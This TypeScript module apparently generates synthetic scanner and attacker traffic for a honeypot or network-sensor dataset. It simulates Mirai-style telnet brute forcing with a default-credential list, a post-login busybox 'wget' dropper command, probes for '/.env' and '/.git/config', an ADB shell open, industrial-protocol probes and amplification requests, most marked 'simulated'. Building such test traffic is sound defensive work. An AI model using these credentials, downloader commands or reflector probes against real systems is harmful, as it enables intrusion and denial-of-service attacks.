import { createHash } from 'node:crypto'
import type { Interaction, Login } from '@hirundo/formats'
import { WORM_PORT } from '../ports.ts'
import type { ActorName } from '../population.ts'
import type { Random } from '../random.ts'
import { dotted, drawHost } from './senders.ts'

/** What one visitor does; the fields that he does not set are those of a short visit. */
export type Visit = Partial<Omit<Interaction, 'src' | 'at_ms' | 'payload_sha256' | 'sample'>> &
  Pick<Interaction, 'dst_port' | 'transport' | 'protocol' | 'handshake'> & { readonly payload?: string | Uint8Array }

export interface Script {
  readonly who: ActorName
  readonly act: (random: Random, seed: number) => Visit
}

const pick = <T>(random: Random, of: readonly T[]): T => of[Math.floor(of.length * random.unit() ** 1.6)]!

/** Factory settings that are public knowledge, and some that are only long. */
const logins: readonly Login[] = [
  ['root', 'root'], ['admin', 'admin'], ['root', ''], ['root', '123456'], ['admin', '1234'], ['root', 'admin'], ['support', 'support'],
  ['user', 'user'], ['guest', 'guest'], ['root', 'default'], ['admin', 'password'], ['root', 'pass'], ['ubnt', 'ubnt'], ['tech', 'tech'],
  ['operator', 'operator'], ['root', 'simulated-9530'], ['admin', 'simulated-camera'], ['service', 'service'],
].map(([user, password]) => ({ user: user!, password: password! }))

const brute: Script = {
  who: 'mirai',
  act: (random, seed) => {
    const tried = Array.from({ length: 1 + random.below(6) }, () => pick(random, logins))
    const is_in = random.unit() < 0.4
    const from = `http://${dotted(drawHost(seed, 'mirai', random, 6))}:8080/simulated/${pick(random, ['arm7', 'mips', 'x86', 'mpsl'])}`
    return {
      dst_port: pick(random, [23, 23, 23, 2323]), transport: 'tcp', protocol: 'telnet', handshake: 'dialogue', logins: tried,
      ...(is_in ? { urls: [from], facts: { 'telnet.commands': `enable | system | shell | /bin/busybox SIMUL | wget ${from}` } } : {}),
      payload: `${tried[0]!.user}\r\n`, bytes_in: 60 + random.below(300), bytes_out: 120 + random.below(200), duration_ms: 3_000 + random.below(20_000),
    }
  },
}

const hassh = ['ec7378c1a92f5a8dde7e8b7a1ddf33d1', '92674389fa1e47a27ddd8d9b63ecd42b', '51cba57125523ce4b9db67714a90bf6e', '98f63c4d9c87edbd97ed4747fa031019']
const ssh: Script = {
  who: 'linux',
  act: (random) => {
    const which = random.below(4)
    const version = ['SSH-2.0-Go', 'SSH-2.0-libssh_0.9.6', 'SSH-2.0-paramiko_2.11.0', 'SSH-2.0-OpenSSH_8.9'][which]!
    return {
      dst_port: 22, transport: 'tcp', protocol: 'ssh', handshake: 'dialogue', facts: { 'ssh.client_version': version, 'ssh.hassh': hassh[which]! },
      payload: `${version}\r\n`, bytes_in: 900 + random.below(400), bytes_out: 1_050, duration_ms: 400 + random.below(4_000),
    }
  },
}

const paths = ['/', '/.env', '/login', '/boaform/simulated', '/manager/html', '/robots.txt', '/wp-login.php', '/cgi-bin/simulated.cgi', '/.git/config', '/actuator/health', '/api/v1/pods', '/simulated/setup.cgi?next=wget']
const agents = ['Mozilla/5.0 (simulated)', 'python-requests/2.31.0', 'curl/8.4.0', 'Go-http-client/1.1', 'Mozilla/5.0 zgrab/0.x']
const http: Script = {
  who: 'linux',
  act: (random, seed) => {
    const path = pick(random, paths)
    const agent = pick(random, agents)
    const drops = path.endsWith('wget')
    return {
      dst_port: pick(random, [80, 8080, 81, 8000]), transport: 'tcp', protocol: 'http', handshake: 'dialogue',
      facts: { 'http.method': 'GET', 'http.path': path, 'http.host': '(an address)', 'http.user_agent': agent },
      urls: drops ? [`http://${dotted(drawHost(seed, 'mirai', random, 6))}/simulated/dropper.sh`] : [],
      payload: `GET ${path} HTTP/1.1\r\nUser-Agent: ${agent}\r\n\r\n`, bytes_in: 90 + random.below(300), bytes_out: 420, duration_ms: 80 + random.below(900),
    }
  },
}

const ja4 = ['t13d1516h2_8daaf6152771_b186095e22b6', 't12d190900_d83cc789557e_16bbda4055b2', 't13d190900_9dc949149365_97f8aa674fd9', 't13i1715h1_5b57614c22b0_3d5424432f57']
const tls: Script = {
  who: 'research',
  act: (random) => ({
    dst_port: pick(random, [443, 8443]), transport: 'tcp', protocol: 'tls', handshake: 'dialogue',
    facts: { 'tls.ja4': pick(random, ja4), 'tls.alpn': 'h2 | http/1.1' },
    payload: Uint8Array.of(0x16, 3, 1, 2, 0, 1, random.below(4)), bytes_in: 517, bytes_out: 7, duration_ms: 30 + random.below(200),
  }),
}

const services: Script = {
  who: 'windows',
  act: (random) => pick<() => Visit>(random, [
    () => ({ dst_port: 445, transport: 'tcp', protocol: 'smb', handshake: 'dialogue', facts: { 'smb.dialects': 'NT LM 0.12 | SMB 2.002', 'smb1.command': 'negotiate' }, payload: '\0\0\0\u0085\u00ffSMBr', bytes_in: 137, bytes_out: 210 }),
    () => ({ dst_port: 3389, transport: 'tcp', protocol: 'rdp', handshake: 'dialogue', facts: { 'rdp.cookie': 'simulated', 'rdp.protocols': 'tls,credssp' }, payload: 'Cookie: mstshash=simulated\r\n', bytes_in: 47, bytes_out: 19 }),
    () => ({ dst_port: 6379, transport: 'tcp', protocol: 'redis', handshake: 'dialogue', facts: { 'redis.commands': 'INFO | CONFIG GET dir' }, payload: '*1\r\n$4\r\nINFO\r\n', bytes_in: 50, bytes_out: 300 }),
    () => ({ dst_port: 5555, transport: 'tcp', protocol: 'adb', handshake: 'dialogue', facts: { 'adb.host': 'host::simulated', 'adb.open': 'shell:cd /data/local/tmp' }, payload: 'CNXN\0\0\0\u0001', bytes_in: 96, bytes_out: 120 }),
    () => ({ dst_port: 3306, transport: 'tcp', protocol: 'mysql', handshake: 'dialogue', facts: { 'mysql.plugin': 'caching_sha2_password' }, payload: 'mysql', bytes_in: 85, bytes_out: 95 }),
  ])(),
}

const ics: Script = {
  who: 'research',
  act: (random) => pick<() => Visit>(random, [
    () => ({ dst_port: 502, transport: 'tcp', protocol: 'modbus', handshake: 'dialogue', facts: { 'modbus.function': pick(random, ['43', '17', '3', '43 | 3', '1', '6']), 'modbus.unit': '1' }, payload: '\0\u0001\0\0\0\u0005\u0001+\u000e\u0001\0', bytes_in: 11, bytes_out: 60 }),
    () => ({ dst_port: 102, transport: 'tcp', protocol: 's7comm', handshake: 'dialogue', facts: { 's7.function': pick(random, ['0xf0', '0x4', '0xf0 | 0x4']), 's7.userdata': 'szl 0x0011' }, payload: '\u0003\0\0\u0016', bytes_in: 55, bytes_out: 120 }),
    () => ({ dst_port: 44818, transport: 'tcp', protocol: 'enip', handshake: 'dialogue', facts: { 'enip.command': '0x0063' }, payload: 'c\0\0\0', bytes_in: 24, bytes_out: 70 }),
    () => ({ dst_port: 20000, transport: 'tcp', protocol: 'dnp3', handshake: 'dialogue', facts: { 'dnp3.function': 'request link status', 'dnp3.destination': String(random.below(4)), 'dnp3.source': '1' }, payload: Uint8Array.of(5, 0x64, 5, 0xc9), bytes_in: 10, bytes_out: 10 }),
    () => ({ dst_port: 2404, transport: 'tcp', protocol: 'iec104', handshake: 'dialogue', facts: { 'iec104.frames': 'STARTDT act', 'iec104.type': '100' }, payload: Uint8Array.of(0x68, 4, 7, 0, 0, 0), bytes_in: 22, bytes_out: 22 }),
    () => ({ dst_port: 47808, transport: 'udp', protocol: 'bacnet', handshake: 'none', facts: { 'bacnet.service': 'read-property', 'bacnet.property': '77' }, payload: Uint8Array.of(0x81, 0x0a, 0, 0x11), bytes_in: 17, bytes_out: 17 }),
  ])(),
}

/** A search for reflectors: one request, to see who answers. */
const reflectors: Script = {
  who: 'udp_probe',
  act: (random) => ({ ...pick(random, amplifiers), transport: 'udp', handshake: 'none', requests: 1 + random.below(2), duration_ms: 0 }),
}

/** Said hello and went. */
const knocks: Script = {
  who: 'masscan',
  act: (random) => ({ dst_port: pick(random, [80, 443, 8080, 8443, 5900, 9200, 25, 21]), transport: 'tcp', protocol: 'any', handshake: 'completed', duration_ms: random.below(400) }),
}

const worm: Script = {
  who: 'worm',
  act: () => ({
    dst_port: WORM_PORT, transport: 'tcp', protocol: 'any', handshake: 'dialogue', payload: 'simulated worm\n', bytes_in: 15, bytes_out: 0, duration_ms: 1_500,
  }),
}

export type Amplifier = Pick<Visit, 'dst_port' | 'protocol'> & Required<Pick<Visit, 'facts' | 'bytes_in' | 'bytes_out' | 'payload'>>
/** Bytes are of one request and its answer. */
export const amplifiers: readonly Amplifier[] = [
  { dst_port: 53, protocol: 'dns', facts: { 'dns.name': 'simulated.example', 'dns.type': 'ANY', 'dns.opcode': '0' }, payload: '\u0012\u0034simulated', bytes_in: 41, bytes_out: 41 },
  { dst_port: 123, protocol: 'ntp', facts: { 'ntp.mode': '7', 'ntp.version': '2', 'ntp.request': '42' }, payload: Uint8Array.of(0x17, 0, 3, 0x2a), bytes_in: 8, bytes_out: 8 },
  { dst_port: 1900, protocol: 'ssdp', facts: { 'ssdp.target': 'ssdp:all' }, payload: 'M-SEARCH * HTTP/1.1\r\n', bytes_in: 94, bytes_out: 94 },
  { dst_port: 389, protocol: 'cldap', facts: { 'ldap.base': '', 'ldap.filter': 'objectclass' }, payload: '0\u0025\u0002\u0001', bytes_in: 52, bytes_out: 52 },
  { dst_port: 11211, protocol: 'memcached', facts: { 'memcached.command': 'stats' }, payload: '\0\0\0\0\0\u0001\0\0stats\r\n', bytes_in: 15, bytes_out: 15 },
  { dst_port: 161, protocol: 'snmp', facts: { 'snmp.version': '1', 'snmp.request': 'get-bulk', 'snmp.oid': '1.3.6.1.2.1' }, payload: '0\u0026\u0002\u0001', bytes_in: 40, bytes_out: 40 },
  { dst_port: 5683, protocol: 'coap', facts: { 'coap.code': '0.01', 'coap.path': '/.well-known/core' }, payload: '@\u0001', bytes_in: 21, bytes_out: 21 },
  { dst_port: 19, protocol: 'chargen', facts: {}, payload: '\u0001', bytes_in: 1, bytes_out: 1 },
]

export const scripts = { brute, ssh, http, tls, services, ics, reflectors, knocks, worm } as const
export type ScriptName = keyof typeof scripts

const bytesOf = (payload: string | Uint8Array): Uint8Array => (typeof payload === 'string' ? new TextEncoder().encode(payload) : payload)

/** The record of a visit. */
export function recordOf({ payload, ...visit }: Visit, src: Uint8Array, at_ms: number, random: Random): Interaction {
  const sample = payload === undefined ? new Uint8Array(0) : bytesOf(payload)
  return {
    clock_error_ms: 2, src, src_port: 1_024 + random.below(64_512), bytes_in: sample.length, bytes_out: 0, requests: 1, duration_ms: 0,
    truncated: false, logins: [], urls: [], facts: {}, guess: undefined, ...visit, at_ms, sample,
    payload_sha256: payload === undefined ? undefined : new Uint8Array(createHash('sha256').update(sample).digest()),
  }
}
